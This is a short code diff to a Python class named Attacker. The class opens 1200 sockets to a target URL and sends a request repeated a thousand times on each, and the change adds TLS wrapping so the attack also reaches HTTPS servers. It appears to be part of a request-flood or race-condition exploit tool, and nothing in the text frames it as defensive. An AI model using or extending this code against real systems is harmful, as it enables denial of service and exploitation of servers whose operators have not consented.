@@ -46,6 +46,7 @@ class Attacker:
         self._client = httpx.Client(
             base_url=url, headers=headers, timeout=120, verify=verify, limits=limits
         )
+        self._tls = verify if isinstance(verify, ssl.SSLContext) else None
         self._session = ""
 
     @property
@@ -150,6 +151,10 @@ class Attacker:
         with ExitStack() as stack:
             for _ in range(1200):
                 connection = stack.enter_context(self._connection())
+                if self._tls is not None:
+                    host = urlsplit(self._url).hostname
+                    secured = self._tls.wrap_socket(connection, server_hostname=host)
+                    connection = stack.enter_context(secured)
                 connection.setblocking(False)
                 with suppress(OSError):
                     connection.send(request * 1000)
